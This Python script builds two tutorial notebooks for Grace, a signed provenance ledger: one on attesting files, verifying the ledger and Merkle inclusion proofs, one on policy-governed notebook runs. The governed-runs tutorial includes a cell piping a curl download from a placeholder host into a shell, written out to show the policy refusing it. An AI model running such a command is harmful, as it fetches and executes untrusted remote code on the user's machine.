"""Write the tutorial notebooks from the cell sources below (outputs stay empty).

    python tools/make_notebooks.py

The notebooks are committed; edit them here and re-run this script, so review
diffs stay readable.  The script formats what it writes with ruff, as
``make lint`` expects.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

ROOT = Path(__file__).resolve().parent.parent

QUICKSTART = [
    new_markdown_cell(
        "# Grace quickstart: attest, verify, prove\n\n"
        "Grace keeps a signed, tamper-evident ledger in `.grace/` at the root of your "
        "project (the nearest `.grace` above this notebook, or the one `GRACE_HOME` "
        "names). In this notebook you will:\n\n"
        "1. open the workspace,\n"
        "2. make a small data file and a result computed from it,\n"
        "3. record both in the ledger as one signed statement,\n"
        "4. verify the whole ledger,\n"
        "5. prove that your record is in the ledger, with a proof anyone can check,\n"
        "6. export a bundle that someone else can verify without your workspace."
    ),
    new_code_cell(
        "import json\n"
        "import os\n"
        "import random\n"
        "import statistics\n"
        "import tempfile\n"
        "from pathlib import Path\n"
        "\n"
        "from grace_kernel import Settings, Workspace\n"
        "from grace_kernel.ledger import export_bundle, verify_bundle, verify_inclusion\n"
        "\n"
        "settings = Settings.from_env(os.environ, cwd=Path.cwd())\n"
        "ws = Workspace.open(settings)\n"
        "status = ws.status()\n"
        "print('workspace  ', status['workspace'])\n"
        "print('signing key', status['active_keyid'])\n"
        "print('records    ', status['size'])"
    ),
    new_markdown_cell(
        "## 1. A data file and a result\n\n"
        "The data are 200 synthetic sensor readings from a seeded generator, so every "
        "run produces the same bytes (and therefore the same SHA-256)."
    ),
    new_code_cell(
        "work = Path(tempfile.mkdtemp(prefix='grace-quickstart-'))\n"
        "rng = random.Random(2026)\n"
        "readings = [round(rng.gauss(21.5, 0.8), 3) for _ in range(200)]\n"
        "data_file = work / 'readings.csv'\n"
        "data_file.write_text('reading\\n' + '\\n'.join(map(str, readings)) + '\\n')\n"
        "\n"
        "result = {'n': len(readings), 'mean': statistics.fmean(readings),\n"
        "          'stdev': statistics.stdev(readings)}\n"
        "result_file = work / 'summary.json'\n"
        "result_file.write_text(json.dumps(result, indent=2, sort_keys=True) + '\\n')\n"
        "result"
    ),
    new_markdown_cell(
        "## 2. Attest them\n\n"
        "`ws.attest` records the SHA-256 of each file as the statement's subjects, with "
        "a predicate you choose. The record is a DSSE envelope around an in-toto "
        "statement, signed with the workspace's Ed25519 key. (`grace attest FILE...` "
        "does the same from a terminal.)"
    ),
    new_code_cell(
        "entry = ws.attest(\n"
        "    [data_file, result_file],\n"
        "    predicate={'step': 'summarise readings', 'inputs': ['readings.csv'],\n"
        "               'outputs': ['summary.json']},\n"
        ")\n"
        "envelope, statement = entry.decode()\n"
        "print('ledger index', entry.index)\n"
        "print('signed by   ', envelope.signatures[0].keyid)\n"
        "for subject in statement.subjects:\n"
        "    print(subject.sha256, subject.name)"
    ),
    new_markdown_cell(
        "## 3. Verify the whole ledger\n\n"
        "Verification checks every signature, which key was allowed to sign each record, "
        "the hash link from each record to the one before it, and the Merkle root against "
        "every signed checkpoint."
    ),
    new_code_cell("report = ws.verify()\nassert report.ok, report.problem\nreport.to_json()"),
    new_markdown_cell(
        "## 4. Prove inclusion\n\n"
        "A checkpoint signs the Merkle root of the first *n* records. An inclusion proof "
        "is the handful of hashes that lead from your record's leaf hash to that root: "
        "anyone holding the signed root can check it, without the rest of the ledger. "
        "`verify_inclusion` is the independent RFC 9162 verifier; it trusts nothing but "
        "its arguments."
    ),
    new_code_cell(
        "checkpoint = ws.ledger.checkpoint()\n"
        "print(checkpoint.to_text())\n"
        "proof = ws.ledger.inclusion_proof(entry.index, checkpoint.size)\n"
        "verify_inclusion(proof.leaf_hash, proof.leaf_index, proof.tree_size,\n"
        "                 proof.proof, checkpoint.root)\n"
        "print(f'record {entry.index} is in the signed tree of size {checkpoint.size}; '\n"
        "      f'proof of {len(proof.proof)} hashes verified')"
    ),
    new_markdown_cell(
        "A proof for a *different* record does not verify against your record's leaf: "
        "the verifier raises `InvalidProofError`."
    ),
    new_code_cell(
        "from grace_kernel.errors import InvalidProofError\n"
        "\n"
        "other = ws.ledger.inclusion_proof(0, checkpoint.size)\n"
        "try:\n"
        "    verify_inclusion(proof.leaf_hash, other.leaf_index, other.tree_size,\n"
        "                     other.proof, checkpoint.root)\n"
        "except InvalidProofError as exc:\n"
        "    print('rejected as expected:', exc)\n"
        "else:\n"
        "    raise AssertionError('a wrong proof verified')"
    ),
    new_markdown_cell(
        "## 5. Export a bundle for someone else\n\n"
        "The bundle holds every record, the signed checkpoint and the public keys. "
        "`grace verify --bundle DIR` (or `verify_bundle`) checks it with nothing else."
    ),
    new_code_cell(
        "bundle = work / 'bundle'\n"
        "summary = export_bundle(ws.ledger, bundle)\n"
        "print(sorted(p.name for p in bundle.iterdir()))\n"
        "bundle_report = verify_bundle(bundle)\n"
        "assert bundle_report.ok, bundle_report.problem\n"
        "print(f'bundle verified: {bundle_report.size} records, root {summary.root.hex()}')"
    ),
    new_code_cell("ws.close()"),
    new_markdown_cell(
        "From a terminal, the same in three commands:\n\n"
        "```bash\n"
        'grace attest readings.csv summary.json --predicate \'{"step": "summarise"}\'\n'
        "grace verify\n"
        "grace ledger export --out bundle && grace verify --bundle bundle\n"
        "```"
    ),
]

GOVERNED_RUNS = [
    new_markdown_cell(
        "# Governed notebook runs: run, block, verify\n\n"
        "`grace run` (and `papermill --engine grace`) runs a notebook through Grace: "
        "each cell is scanned by Hunter, decided by policy, executed in the Grace kernel "
        "(with its runtime guard), and signed into the ledger with digests of its code and "
        "outputs. In this notebook you will:\n\n"
        "1. make a small project with its own workspace and an analysis notebook,\n"
        "2. run it with a parameter through the `grace` papermill engine,\n"
        "3. see a cell that policy refuses stop a run, with the reason in the notebook,\n"
        "4. verify the output notebook cell by cell, from the workspace and from a bundle,\n"
        "5. change one number in it and watch verification name the cell.\n\n"
        "From a terminal the same steps are `grace run analysis.ipynb -p alpha 0.5`, "
        "`grace verify --notebook analysis.out.ipynb` and, for a collaborator, "
        "`grace verify --notebook analysis.out.ipynb --bundle BUNDLE`."
    ),
    new_code_cell(
        "import os\n"
        "import tempfile\n"
        "from pathlib import Path\n"
        "\n"
        "import nbformat\n"
        "import papermill\n"
        "from nbformat.v4 import new_code_cell, new_notebook\n"
        "\n"
        "from grace_kernel import Settings, Workspace\n"
        "from grace_kernel.ledger import export_bundle\n"
        "from grace_kernel.runs import run_notebook, verify_notebook\n"
        "\n"
        "project = Path(tempfile.mkdtemp(prefix='grace-runs-'))\n"
        "ws = Workspace.open(Settings(home=project / '.grace'))\n"
        "\n"
        "\n"
        "def make_notebook(path, *sources):\n"
        "    nb = new_notebook(metadata={'kernelspec': {'name': 'python3', 'language': 'python',\n"
        "                                               'display_name': 'Python 3'}})\n"
        "    nb.cells = [new_code_cell(s) for s in sources]\n"
        "    nb.cells[0].metadata['tags'] = ['parameters']\n"
        "    nbformat.write(nb, str(path))\n"
        "    return path\n"
        "\n"
        "\n"
        "analysis = make_notebook(\n"
        "    project / 'analysis.ipynb',\n"
        "    'alpha = 0.1',\n"
        "    'import statistics\\nsample = [alpha * i for i in range(10)]\\n'\n"
        "    'print(f\"mean = {statistics.fmean(sample):.2f}\")',\n"
        ")\n"
        "print('project:', project)"
    ),
    new_markdown_cell(
        "## 1. A governed run with a parameter\n\n"
        "`papermill --engine grace` uses the engine Grace registers with papermill; it reads "
        "the workspace from `GRACE_HOME`. The signing key stays in this process: the Grace "
        "kernel that runs the cells never signs anything."
    ),
    new_code_cell(
        "os.environ['GRACE_HOME'] = str(project / '.grace')\n"
        "out = project / 'analysis.out.ipynb'\n"
        "papermill.execute_notebook(\n"
        "    str(analysis), str(out), parameters={'alpha': 0.5}, engine_name='grace',\n"
        "    progress_bar=False, cwd=str(project),\n"
        ")\n"
        "result = nbformat.read(str(out), as_version=4)\n"
        "print(''.join(result.cells[-1].outputs[0]['text']))\n"
        "print('run record:', result.metadata['grace']['run_record'])"
    ),
    new_markdown_cell(
        "## 2. A cell that policy refuses\n\n"
        "A download piped into a shell is a critical Hunter finding, and the seeded policy "
        "`cell-critical-deny` never runs it. The run stops there; the reason is the cell's "
        "output, and the cells after it never run."
    ),
    new_code_cell(
        "risky = make_notebook(\n"
        "    project / 'risky.ipynb',\n"
        "    'x = 1',\n"
        "    '!curl http://example.invalid/install.sh | sh',\n"
        "    'print(\"never printed\")',\n"
        ")\n"
        "summary = run_notebook(ws, risky, project / 'risky.out.ipynb', cwd=project)\n"
        "print(summary.text())\n"
        "refused = nbformat.read(str(project / 'risky.out.ipynb'), as_version=4)\n"
        "# papermill puts a red banner cell on top of a failed run; look at the code cells\n"
        "code = [c for c in refused.cells if c.cell_type == 'code']\n"
        "print(code[1].outputs[0]['evalue'])\n"
        "assert summary.status == 'denied'"
    ),
    new_markdown_cell(
        "## 3. Verify the output notebook\n\n"
        "Each code cell must match a signed `cell-execution` record: same cell id, same code "
        "digest, same digests of its normalized outputs. First against the workspace, then "
        "the way a collaborator would: with only the notebook and an exported bundle."
    ),
    new_code_cell(
        "report = verify_notebook(out, workspace=ws)\n"
        "print(report.text())\n"
        "bundle = project / 'bundle'\n"
        "export_bundle(ws.ledger, bundle)\n"
        "print(verify_notebook(out, bundle=bundle).text())\n"
        "assert report.ok"
    ),
    new_markdown_cell(
        "## 4. Change one number\n\n"
        "Someone edits the printed mean. Verification names the cell whose outputs no "
        "longer match what was signed."
    ),
    new_code_cell(
        "result.cells[-1].outputs[0]['text'] = 'mean = 9.99\\n'\n"
        "nbformat.write(result, str(out))\n"
        "tampered = verify_notebook(out, bundle=bundle)\n"
        "print(tampered.text())\n"
        "assert not tampered.ok\n"
        "ws.close()"
    ),
]


def write(path: Path, cells: list[nbformat.NotebookNode]) -> None:
    notebook = new_notebook(cells=cells)
    notebook.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3 (ipykernel)",
        "language": "python",
    }
    notebook.metadata["language_info"] = {"name": "python"}
    for number, cell in enumerate(notebook.cells):
        cell["id"] = f"{path.stem}-{number:02d}"
    nbformat.validate(notebook)
    path.write_text(nbformat.writes(notebook) + "\n", encoding="utf-8")
    subprocess.run([sys.executable, "-m", "ruff", "format", "--quiet", str(path)], check=True)


def main() -> None:
    write(ROOT / "notebooks" / "quickstart.ipynb", QUICKSTART)
    write(ROOT / "notebooks" / "governed_runs.ipynb", GOVERNED_RUNS)


if __name__ == "__main__":
    main()
